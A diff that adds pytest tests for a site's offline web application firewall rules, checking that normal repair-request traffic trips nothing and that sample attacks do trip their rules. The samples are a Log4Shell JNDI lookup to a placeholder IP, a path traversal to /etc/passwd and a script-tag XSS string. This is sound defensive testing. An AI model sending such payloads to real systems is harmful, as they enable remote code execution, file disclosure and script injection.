@@ -294,3 +294,31 @@ def test_cloudfront_logs_go_to_an_expiring_encrypted_bucket_without_cookies_and_
     assert all(bucket["PublicAccessBlockConfiguration"].values())
     assert custom["MinimumProtocolVersion"] == "TLSv1.2_2021" and custom["SslSupportMethod"] == "sni-only"
     assert default == {"CloudFrontDefaultCertificate": True}  # CloudFront then allows TLSv1 whatever is set
+
+
+def test_no_valid_request_trips_a_waf_condition_that_can_be_checked_offline():
+    """Generated bodies (what the fuzz run sends), each body at its largest and resident
+    submissions, as the site sends them; docs/operations.md has the full run's figures."""
+    from infra import waf_rules
+
+    corpora = {"schemathesis": waf_rules.schemathesis_requests(10), "largest": waf_rules.largest_bodies(),
+               "residents": waf_rules.resident_submissions(300)}
+
+    assert all(corpora.values()) and len(corpora["largest"]) >= 8
+    assert {name: dict(counts) for name, counts in waf_rules.measure(corpora).items()} == {
+        name: {} for name in corpora}
+
+
+@pytest.mark.parametrize("request_, rule", [
+    ({"body": {"description": "${jndi:ldap://203.0.113.9/a}"}}, "Log4JRCE_*"),
+    ({"body": {"location": "../../etc/passwd"}}, "GenericLFI_*"),
+    ({"body": {"description": "<script>alert(1)</script>"}}, "CrossSiteScripting_*"),
+    ({"body": {"description": "修" * 6000}}, "api-body-too-large"),
+    ({"headers": {"User-Agent": ""}}, "NoUserAgent_HEADER"),
+])
+def test_the_offline_waf_conditions_do_match_what_they_describe(request_, rule):
+    from infra import waf_rules
+
+    request = waf_rules._json_request("POST", "/api/repairs", request_.get("body", {}), request_.get("headers"))
+
+    assert rule in waf_rules.tripped(request)
